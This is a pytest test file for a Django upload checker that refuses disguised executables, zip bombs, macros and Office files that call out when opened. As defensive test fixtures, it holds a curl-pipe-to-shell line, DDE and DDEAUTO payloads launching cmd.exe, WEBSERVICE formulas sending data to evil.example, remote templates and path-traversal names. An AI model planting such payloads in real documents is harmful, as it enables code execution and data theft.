import datetime
import hashlib
import io
import re
import struct
import zipfile
import zlib

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from openpyxl import Workbook

from core.filechecks import (
    ALLOWED_TYPES,
    DOCX,
    MAX_EVIDENCE_BYTES,
    XLSX,
    EvidenceCheck,
    EvidenceError,
    check_evidence_file,
    evidence_storage_name,
    safe_display_name,
)

# ---------------------------------------------------------------------------------------------
# Real files, built from their specifications.


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def make_png(width: int = 2, height: int = 2) -> bytes:
    """An RGB PNG: signature, IHDR, one IDAT of filtered scanlines, IEND."""
    scanlines = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + _png_chunk(b"IDAT", zlib.compress(scanlines))
        + _png_chunk(b"IEND", b"")
    )


def _jpeg_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def make_jpeg(*, with_frame: bool = True) -> bytes:
    """A 1x1 grey baseline JPEG (Pillow decodes it): JFIF, one quantisation table, a frame header,
    two one-code Huffman tables and a scan whose single block is "DC 0, end of block"."""
    frame = _jpeg_segment(0xC0, b"\x08" + struct.pack(">HH", 1, 1) + b"\x01" + b"\x01\x11\x00")
    return (
        b"\xff\xd8"
        + _jpeg_segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + _jpeg_segment(0xDB, b"\x00" + bytes([1] * 64))
        + (frame if with_frame else b"")
        + _jpeg_segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00")
        + _jpeg_segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\x00")
        + _jpeg_segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"
        + b"\xff\xd9"
    )


def make_pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def make_xlsx() -> bytes:
    workbook = Workbook()
    workbook.active.append(["台账", "人数"])
    workbook.active.append(["3 月", 12])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="{target}" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument"/></Relationships>'
)


def _content_types(main_part: str, main_type: str, extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>{extra}</Types>'
    )


def make_zip(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def make_docx() -> bytes:
    """The three parts Word needs to open a document."""
    return make_zip(
        {
            "[Content_Types].xml": _content_types(
                "word/document.xml",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            ),
            "_rels/.rels": _RELS.format(target="word/document.xml"),
            "word/document.xml": (
                '<?xml version="1.0" encoding="UTF-8"?>'
                '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                "<w:body><w:p><w:r><w:t>2024 年度运营报告</w:t></w:r></w:p></w:body></w:document>"
            ),
        }
    )


def make_xlsm(*, vba_project: bool = True, macro_content_type: bool = True) -> bytes:
    """A macro-enabled workbook as Excel saves it: a vbaProject.bin part and a macroEnabled type."""
    main_type = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if macro_content_type
        else "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": _content_types("xl/workbook.xml", main_type),
        "_rels/.rels": _RELS.format(target="xl/workbook.xml"),
        "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }
    if vba_project:
        parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return make_zip(parts)


def make_zip_bomb(*, megabytes: int) -> bytes:
    """An otherwise valid-looking .xlsx whose sheet is ``megabytes`` of zeros, written in chunks so
    the test never holds the uncompressed data; it compresses about 1000 times."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _content_types("xl/workbook.xml", XLSX + ".main+xml"))
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as entry:
            zeros = bytes(1024 * 1024)
            for _ in range(megabytes):
                entry.write(zeros)
    return buffer.getvalue()


def mark_encrypted(data: bytes) -> bytes:
    """Set the "encrypted" flag bit on every entry, local and central headers alike, as a zip tool
    that encrypts does; Python's zipfile cannot write encrypted archives itself."""
    out = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for match in re.finditer(re.escape(signature), data):
            out[match.start() + flag_offset] |= 0x01
    return bytes(out)


@pytest.fixture(scope="module")
def bomb_over_total_limit() -> bytes:
    return make_zip_bomb(megabytes=200)


@pytest.fixture(scope="module")
def bomb_with_absurd_ratio() -> bytes:
    return make_zip_bomb(megabytes=20)  # under the 100 MB total, but 1000:1


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


class UnreadableUpload:
    """Declares a size and fails the test if anything tries to read it."""

    name = "大文件.pdf"
    size = MAX_EVIDENCE_BYTES + 1

    def read(self, size: int = -1) -> bytes:
        raise AssertionError("an oversized file must be refused before it is read")

    def seek(self, offset: int, whence: int = 0) -> int:
        return 0


# ---------------------------------------------------------------------------------------------
# Accepted files


@pytest.mark.parametrize(
    ("name", "build", "content_type", "extension"),
    [
        ("门头照片.jpg", make_jpeg, "image/jpeg", ".jpg"),
        ("活动现场.png", make_png, "image/png", ".png"),
        ("年度报告.pdf", make_pdf, "application/pdf", ".pdf"),
        ("就业服务台账.xlsx", make_xlsx, XLSX, ".xlsx"),
        ("年度运营报告.docx", make_docx, DOCX, ".docx"),
    ],
)
def test_accepts_each_allowed_type_by_its_content(name, build, content_type, extension):
    data = build()
    uploaded = upload(name, data)

    check = check_evidence_file(uploaded)

    assert check == EvidenceCheck(
        content_type=content_type,
        extension=extension,
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
    )
    assert ALLOWED_TYPES[content_type] == extension
    assert uploaded.tell() == 0  # ready to be saved


@pytest.mark.parametrize("name", ["照片.jpeg", "照片.JPG", "IMG_0001.JPEG", "微信图片.jfif", "blob"])
def test_accepts_jpeg_under_its_usual_names_and_without_extension(name):
    assert check_evidence_file(upload(name, make_jpeg())).extension == ".jpg"


def test_ignores_the_content_type_the_browser_declared():
    check = check_evidence_file(upload("照片.png", make_png(), content_type="application/pdf"))

    assert check.content_type == "image/png"


def test_accepts_jpeg_with_data_after_its_end_marker():
    # Phones append data after FF D9 (Samsung motion photos carry a video there).
    check = check_evidence_file(upload("动态照片.jpg", make_jpeg() + b"\x00" * 100 + b"ftypmp42"))

    assert check.content_type == "image/jpeg"


def test_accepts_an_upload_spooled_to_a_temporary_file():
    data = make_docx()
    uploaded = TemporaryUploadedFile("报告.docx", "application/octet-stream", len(data), None)
    uploaded.write(data)
    try:
        assert check_evidence_file(uploaded).content_type == DOCX
        assert uploaded.tell() == 0
    finally:
        uploaded.close()


def test_sha256_is_of_the_whole_content_read_in_chunks():
    data = make_pdf().replace(b"%%EOF", b"% padding\n" * 30_000 + b"%%EOF")  # several 64 kB chunks

    check = check_evidence_file(upload("扫描件.pdf", data))

    assert check.size == len(data)
    assert check.sha256 == hashlib.sha256(data).hexdigest()


# ---------------------------------------------------------------------------------------------
# Refused files


def test_refuses_an_empty_file():
    with pytest.raises(EvidenceError, match=r"文件“空\.pdf”是空的"):
        check_evidence_file(upload("空.pdf", b""))


def test_refuses_a_file_declared_over_the_limit_without_reading_it():
    with pytest.raises(EvidenceError, match="超过 20 MB 上限"):
        check_evidence_file(UnreadableUpload())


def test_refuses_a_file_over_the_limit_while_reading_even_when_its_declared_size_is_small():
    uploaded = upload("报告.pdf", make_pdf() + b"\x00" * 2048)
    uploaded.size = 10  # a lying declared size

    with pytest.raises(EvidenceError, match="超过 1 KB 上限"):
        check_evidence_file(uploaded, max_bytes=1024)
    assert uploaded.tell() == 0


def test_max_bytes_keyword_overrides_the_default_limit():
    data = make_png()
    assert check_evidence_file(upload("a.png", data), max_bytes=len(data)).size == len(data)
    with pytest.raises(EvidenceError, match="上限"):
        check_evidence_file(upload("a.png", data), max_bytes=len(data) - 1)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        (b"\x7fELF\x02\x01\x01\x00" + bytes(200), "可执行程序"),
        (b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200), "可执行程序"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(200), "可执行程序"),
        (b"#!/bin/sh\ncurl http://example.invalid | sh\n", "脚本程序"),
    ],
)
def test_refuses_programs_renamed_to_jpg_saying_they_are_not_images(content, what):
    with pytest.raises(EvidenceError, match=f"文件“照片.jpg”的内容不是图片：它是.*{what}"):
        check_evidence_file(upload("照片.jpg", content, content_type="image/jpeg"))


def test_refuses_content_of_no_allowed_type():
    with pytest.raises(EvidenceError, match="内容不是 PDF 文档：无法识别它的格式。只接受"):
        check_evidence_file(upload("台账.pdf", "这是一段纯文本".encode()))


@pytest.mark.parametrize(
    ("content", "advice"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "另存为 .docx 或 .xlsx"),
        (b"\x00\x00\x00\x18ftypheic" + bytes(100), "兼容性最佳"),
        (b"GIF89a" + bytes(100), "转换为 JPG 或 PNG"),
    ],
)
def test_refuses_common_wrong_formats_with_advice(content, advice):
    with pytest.raises(EvidenceError, match=advice):
        check_evidence_file(upload("材料", content))


def test_refuses_a_png_named_pdf_saying_what_it_really_is():
    with pytest.raises(EvidenceError) as excinfo:
        check_evidence_file(upload("年度报告.pdf", make_png()))

    message = str(excinfo.value)
    assert "扩展名是 .pdf，但内容是 PNG 图片" in message
    assert "改为 .png" in message


def test_refuses_a_word_document_named_xlsx():
    with pytest.raises(EvidenceError, match=r"扩展名是 \.xlsx，但内容是 Word 文档"):
        check_evidence_file(upload("台账.xlsx", make_docx()))


def test_refuses_a_png_without_an_ihdr_chunk():
    png = make_png()
    broken = png[:12] + b"IHDX" + png[16:]

    with pytest.raises(EvidenceError, match="不是完整的 PNG 图片"):
        check_evidence_file(upload("照片.png", broken))


def test_refuses_a_png_whose_header_checksum_is_wrong():
    png = bytearray(make_png())
    png[29] ^= 0xFF  # first byte of the IHDR CRC

    with pytest.raises(EvidenceError, match="不是完整的 PNG 图片"):
        check_evidence_file(upload("照片.png", bytes(png)))


def test_refuses_a_jpeg_magic_number_without_a_frame_header():
    with pytest.raises(EvidenceError, match="不是完整的 JPG 图片"):
        check_evidence_file(upload("照片.jpg", make_jpeg(with_frame=False)))


def test_refuses_a_jpeg_magic_number_followed_by_garbage():
    with pytest.raises(EvidenceError, match="不是完整的 JPG 图片"):
        check_evidence_file(upload("照片.jpg", b"\xff\xd8\xff" + b"MZ" + bytes(100)))


def test_refuses_a_truncated_pdf():
    with pytest.raises(EvidenceError, match="不是完整的 PDF"):
        check_evidence_file(upload("报告.pdf", make_pdf()[:-20]))


def test_refuses_a_macro_workbook_renamed_to_xlsx():
    with pytest.raises(EvidenceError, match=r"文件“台账\.xlsx”包含宏"):
        check_evidence_file(upload("台账.xlsx", make_xlsm()))


@pytest.mark.parametrize(
    ("vba_project", "macro_content_type"),
    [(True, False), (False, True)],
    ids=["vba-project-only", "macro-content-type-only"],
)
def test_refuses_either_sign_of_macros_on_its_own(vba_project, macro_content_type):
    with pytest.raises(EvidenceError, match="包含宏"):
        check_evidence_file(
            upload("台账.xlsx", make_xlsm(vba_project=vba_project, macro_content_type=macro_content_type))
        )


def test_refuses_a_zip_bomb_by_its_total_uncompressed_size(bomb_over_total_limit):
    assert len(bomb_over_total_limit) < 1024 * 1024  # small on the wire

    with pytest.raises(EvidenceError, match=r"解压后有 200 MB，超过 100 MB 上限.*压缩炸弹"):
        check_evidence_file(upload("台账.xlsx", bomb_over_total_limit))


def test_refuses_a_zip_entry_with_an_absurd_compression_ratio(bomb_with_absurd_ratio):
    with pytest.raises(EvidenceError, match=r"sheet1\.xml”压缩比异常"):
        check_evidence_file(upload("台账.xlsx", bomb_with_absurd_ratio))


def test_refuses_an_encrypted_zip():
    encrypted = mark_encrypted(make_docx())
    assert all(info.flag_bits & 0x1 for info in zipfile.ZipFile(io.BytesIO(encrypted)).infolist())

    with pytest.raises(EvidenceError, match="设置了密码"):
        check_evidence_file(upload("报告.docx", encrypted))


def test_refuses_a_plain_zip_archive():
    with pytest.raises(EvidenceError, match="普通压缩包"):
        check_evidence_file(upload("材料.zip", make_zip({"a.txt": "x"})))


def test_refuses_a_zip_with_a_broken_directory():
    broken = make_docx()[:-30]

    with pytest.raises(EvidenceError, match="已损坏"):
        check_evidence_file(upload("报告.docx", broken))


def test_rewinds_the_file_after_refusing_it():
    uploaded = upload("照片.jpg", b"MZ" + bytes(100))

    with pytest.raises(EvidenceError):
        check_evidence_file(uploaded)
    assert uploaded.tell() == 0


# ---------------------------------------------------------------------------------------------
# Storage and display names


def _check(extension: str = ".pdf") -> EvidenceCheck:
    return EvidenceCheck(content_type="application/pdf", extension=extension, size=1, sha256="0" * 64)


def test_storage_name_is_random_dated_by_local_month_and_ignores_the_original_name():
    # 2025-01-31 20:00 UTC is already 1 February in China.
    with time_machine.travel(datetime.datetime(2025, 1, 31, 20, 0, tzinfo=datetime.UTC), tick=False):
        first = evidence_storage_name(_check(), prefix="evidence/")
        second = evidence_storage_name(_check(), prefix="evidence")

    assert re.fullmatch(r"evidence/2025/02/[0-9a-f]{32}\.pdf", first)
    assert re.fullmatch(r"evidence/2025/02/[0-9a-f]{32}\.pdf", second)
    assert first != second


@pytest.mark.parametrize("prefix", ["", "/", "evidence/../secrets", "..", "a\\b"])
def test_storage_name_refuses_a_prefix_that_could_leave_the_storage_root(prefix):
    with pytest.raises(ValueError, match="prefix"):
        evidence_storage_name(_check(), prefix=prefix)


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("门头照片.jpg", "门头照片.jpg"),
        ("C:\\Users\\站长\\Desktop\\台账.xlsx", "台账.xlsx"),
        ("../../etc/passwd", "passwd"),
        ("..hidden.pdf", "hidden.pdf"),
        (" . 报告.pdf ", "报告.pdf"),
        ("报\x00告\r\n.pdf", "报告.pdf"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),  # right-to-left override would show "exe.jpg"
        ("", "未命名文件"),
        ("...", "未命名文件"),
    ],
)
def test_safe_display_name_removes_paths_control_characters_and_leading_dots(name, expected):
    assert safe_display_name(name) == expected


def test_safe_display_name_cuts_long_names_to_100_characters_keeping_the_extension():
    name = "很长的名字" * 40 + ".docx"

    shown = safe_display_name(name)

    assert shown == "很长的名字" * 19 + ".docx"
    assert len(shown) == 100


def test_refusal_messages_show_the_safe_name():
    with pytest.raises(EvidenceError) as excinfo:
        check_evidence_file(upload("a/b/\u202e照片.jpg", b"\x7fELF" + bytes(50)))

    assert "文件“照片.jpg”" in str(excinfo.value)


# ---------------------------------------------------------------------------------------------
# Office files that reach outside themselves when opened: refused wherever Office files are taken.

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def make_formula_xlsx(formula: str, *, defined_name: bool = False) -> bytes:
    """A real workbook written by openpyxl with ``formula`` in B2 (or as a defined name)."""
    from openpyxl.workbook.defined_name import DefinedName

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["台账", "人数"])
    if defined_name:
        sheet.append(["3 月", 12])
        workbook.defined_names["来源"] = DefinedName("来源", attr_text=formula.lstrip("="))
    else:
        sheet.append(["3 月", formula])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def add_parts(data: bytes, parts: dict[str, str | bytes]) -> bytes:
    """The same zip with parts added, or replaced when the name is already there."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename not in parts:
                target.writestr(info.filename, source.read(info))
        for name, content in parts.items():
            target.writestr(name, content)
    return out.getvalue()


def external_rels(kind: str, target: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="{REL_NS}/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    )


def make_field_docx(body: str) -> bytes:
    """A Word document whose body is ``body`` (WordprocessingML paragraphs)."""
    return add_parts(
        make_docx(),
        {
            "word/document.xml": '<?xml version="1.0" encoding="UTF-8"?>'
            f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
        },
    )


def complex_field(*instruction_runs: str) -> str:
    """A field as Word writes it: begin, the instruction over one or more runs, separate, result, end."""
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>' for text in instruction_runs
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def with_formula_written_as(xml: str) -> bytes:
    """A workbook whose B2 formula element is written as ``xml`` (as a crafted file may write it)."""
    data = make_formula_xlsx("=1+1")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert sheet.count("<f>1+1</f>") == 1
    return add_parts(data, {"xl/worksheets/sheet1.xml": sheet.replace("<f>1+1</f>", xml)})


CALLING_OUT = {
    "xlsx-dde": (
        "台账.xlsx",
        lambda: make_formula_xlsx("=cmd|' /C calc'!A0"),
        "单元格 B2 含有 DDE 公式（调用其他程序）",
    ),
    "xlsx-dde-msexcel": (
        "台账.xlsx",
        lambda: make_formula_xlsx("=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''"),
        "DDE 公式",
    ),
    "xlsx-webservice": (
        "台账.xlsx",
        lambda: make_formula_xlsx('=WEBSERVICE("http://evil.example/?d="&A2)'),
        "函数 WEBSERVICE（访问外部）",
    ),
    "xlsx-filterxml-webservice": (
        "台账.xlsx",
        lambda: make_formula_xlsx('=FILTERXML(_xlfn.WEBSERVICE("http://evil.example/x"),"//a")'),
        "函数 WEBSERVICE",
    ),
    "xlsx-image": (
        "台账.xlsx",
        lambda: make_formula_xlsx('=_xlfn.IMAGE("https://evil.example/p.png")'),
        "函数 IMAGE",
    ),
    "xlsx-defined-name": (
        "台账.xlsx",
        lambda: make_formula_xlsx('=WEBSERVICE("http://evil.example/")', defined_name=True),
        "公式含有函数 WEBSERVICE",
    ),
    "xlsx-character-reference": (
        "台账.xlsx",
        lambda: with_formula_written_as("<f>cmd&#124;' /C calc'!A0</f>"),
        "单元格 B2 含有 DDE 公式",
    ),
    "xlsx-cdata": (
        "台账.xlsx",
        lambda: with_formula_written_as('<f><![CDATA[WEBSERVICE("http://evil.example/")]]></f>'),
        "单元格 B2 含有函数 WEBSERVICE",
    ),
    "xlsx-comment-inside": (
        "台账.xlsx",
        lambda: with_formula_written_as("<f>cmd<!-- -->|' /C calc'!A0</f>"),
        "单元格 B2 含有 DDE 公式",
    ),
    "xlsx-external-workbook": (
        "台账.xlsx",
        lambda: add_parts(make_xlsx(), {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}),
        "引用了其他工作簿的数据（外部链接）",
    ),
    "xlsx-external-object": (
        "台账.xlsx",
        lambda: add_parts(
            make_xlsx(),
            {"xl/worksheets/_rels/sheet1.xml.rels": external_rels("oleObject", "file://evil/share/x.bin")},
        ),
        "引用了文件之外的内容（外部对象）",
    ),
    "xlsx-data-connection": (
        "台账.xlsx",
        lambda: add_parts(make_xlsx(), {"xl/connections.xml": "<connections/>"}),
        "包含数据连接",
    ),
    "xlsx-excel4-macro-sheet": (
        "台账.xlsx",
        lambda: add_parts(make_xlsx(), {"xl/macrosheets/sheet1.xml": "<xm:macrosheet/>"}),
        "包含宏",
    ),
    "docx-ddeauto-simple": (
        "报告.docx",
        lambda: make_field_docx(
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>'
        ),
        "含有会自动从外部取数据或运行程序的域（DDEAUTO）",
    ),
    "docx-dde-split-over-runs": (
        "报告.docx",
        lambda: make_field_docx(
            complex_field(" DD", "EAUTO c:\\\\Windows\\\\System32\\\\cmd.exe ", '"/k calc"')
        ),
        "域（DDEAUTO）",
    ),
    "docx-includetext": (
        "报告.docx",
        lambda: make_field_docx(complex_field(' INCLUDETEXT "\\\\\\\\evil\\\\share\\\\a.docx" ')),
        "域（INCLUDETEXT）",
    ),
    "docx-remote-template": (
        "报告.docx",
        lambda: add_parts(
            make_docx(),
            {"word/_rels/settings.xml.rels": external_rels("attachedTemplate", "http://evil.example/t.dotm")},
        ),
        "引用了文件之外的内容（外部模板）",
    ),
}


@pytest.mark.parametrize(("name", "build", "message"), CALLING_OUT.values(), ids=CALLING_OUT.keys())
def test_refuses_office_files_that_call_out_when_opened(name, build, message):
    with pytest.raises(EvidenceError, match=re.escape(message)) as excinfo:
        check_evidence_file(upload(name, build()))

    assert (
        "出于安全考虑不予接收" in str(excinfo.value)
        or "断开链接" in str(excinfo.value)
        or "宏" in str(excinfo.value)
    )


@pytest.mark.parametrize(("name", "build", "message"), CALLING_OUT.values(), ids=CALLING_OUT.keys())
def test_a_refused_office_file_is_not_stored(settings, tmp_path, name, build, message):
    from django.core.exceptions import ValidationError

    from core.uploads import stored_upload

    settings.MEDIA_ROOT = tmp_path
    with (
        pytest.raises(ValidationError, match=re.escape(message)),
        stored_upload(upload(name, build()), prefix="evidence"),
    ):
        raise AssertionError("the block must not run for a refused file")

    assert [p for p in tmp_path.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize(
    "formula",
    ["=SUM(B2:B3)", '=CONCATENATE("甲|乙","丙")', '=IF(A2="WEBSERVICE(",1,0)', "=MYCALL(1)", "=B2*RECALL"],
    ids=["sum", "pipe-in-text", "name-in-text", "name-ending-in-call", "recall"],
)
def test_accepts_a_ledger_whose_formulas_stay_inside_it(formula):
    assert check_evidence_file(upload("台账.xlsx", make_formula_xlsx(formula))).content_type == XLSX


def test_accepts_a_document_with_ordinary_fields_and_web_links():
    hyperlink_rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId5" Type="{REL_NS}/hyperlink" Target="https://www.gov.cn/" TargetMode="External"/>'
        "</Relationships>"
    )
    data = add_parts(
        make_field_docx(
            complex_field(" PAGE ")
            + '<w:p><w:fldSimple w:instr=" DATE \\@ &quot;yyyy年M月d日&quot; "/></w:p>'
        ),
        {"word/_rels/document.xml.rels": hyperlink_rels},
    )

    assert check_evidence_file(upload("报告.docx", data)).content_type == DOCX


def test_an_image_and_pdf_form_refuses_office_files_without_opening_them():
    from core.filechecks import IMAGE_AND_PDF_TYPES

    with pytest.raises(EvidenceError, match="此处只接受 JPG 图片、PNG 图片、PDF 文档"):
        check_evidence_file(upload("台账.xlsx", make_xlsx()), allowed_types=IMAGE_AND_PDF_TYPES)
    assert (
        check_evidence_file(upload("照片.png", make_png()), allowed_types=IMAGE_AND_PDF_TYPES).extension
        == ".png"
    )


def test_the_excel_import_refuses_a_workbook_that_calls_out_too():
    from core.xlsx import XlsxError, read_xlsx_rows

    data = add_parts(
        make_xlsx(), {"xl/worksheets/_rels/sheet1.xml.rels": external_rels("oleObject", "file://evil/x.bin")}
    )

    with pytest.raises(XlsxError, match=re.escape("引用了文件之外的内容（外部对象）")):
        read_xlsx_rows(data, max_rows=10, max_bytes=MAX_EVIDENCE_BYTES)
